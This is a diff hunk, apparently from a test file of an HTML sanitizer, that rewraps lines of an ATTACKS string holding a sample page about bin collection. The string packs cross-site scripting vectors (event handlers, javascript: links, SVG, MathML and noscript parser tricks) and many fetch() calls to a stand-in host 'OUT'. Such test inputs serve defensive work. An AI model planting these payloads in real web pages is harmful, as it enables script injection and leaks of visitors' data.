@@ -15,16 +15,20 @@ ATTACKS = """<!doctype html><html lang="en"><head><title>Bins</title><base href=
 <script>fetch("http://OUT/script")</script><script src="http://OUT/script.js"></script></head>
 <body onload="fetch('http://OUT/onload')"><main style="background:url(http://OUT/inline.png)">
 <h1 onclick="alert(1)" onpointerenter="fetch('http://OUT/enter')">Bins</h1>
-<p>Put bins out <a href="javascript:fetch('http://OUT/link')">by six</a> <a href="http://OUT/ping" ping="http://OUT/ping">here</a>.</p>
+<p>Put bins out <a href="javascript:fetch('http://OUT/link')">by six</a>
+<a href="http://OUT/ping" ping="http://OUT/ping">here</a>.</p>
 <img src="http://OUT/picture.png" onerror="fetch('http://OUT/error')" alt="A green bin" srcset="http://OUT/2x.png 2x">
-<form action="http://OUT/form" method="post"><input name="a" autofocus onfocus="fetch('http://OUT/focus')"><button formaction="http://OUT/b">Send</button></form>
+<form action="http://OUT/form" method="post"><input name="a" autofocus onfocus="fetch('http://OUT/focus')">
+<button formaction="http://OUT/b">Send</button></form>
 <iframe src="http://OUT/frame" srcdoc="<script>fetch('http://OUT/srcdoc')</script>"></iframe>
-<object data="http://OUT/object"></object><embed src="http://OUT/embed"><video src="http://OUT/video" autoplay></video>
+<object data="http://OUT/object"></object><embed src="http://OUT/embed">
+<video src="http://OUT/video" autoplay></video>
 <table><tr><td colspan="2" background="http://OUT/td.png">Tuesday</td></tr></table>
 <details ontoggle="fetch('http://OUT/toggle')"><summary>More</summary><p>Brown bins weekly.</p></details>
 <svg><script>fetch("http://OUT/svg")</script><a xlink:href="javascript:alert(1)"><text>x</text></a>
 <image href="http://OUT/svg.png"/><animate onbegin="fetch('http://OUT/begin')" attributeName="x" dur="1s"/>
-<foreignObject><p onclick="alert(2)">inside</p><iframe src="http://OUT/foreign"></iframe></foreignObject><use href="http://OUT/u#x"/></svg>
+<foreignObject><p onclick="alert(2)">inside</p><iframe src="http://OUT/foreign"></iframe></foreignObject>
+<use href="http://OUT/u#x"/></svg>
 <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></table></math>
 <noscript><p title="</noscript><img src=x onerror=alert(3)>"></noscript><template><script>alert(4)</script></template>
 <textarea></textarea><xmp><script>alert(5)</script></xmp><plaintext><script>alert(6)</script>"""
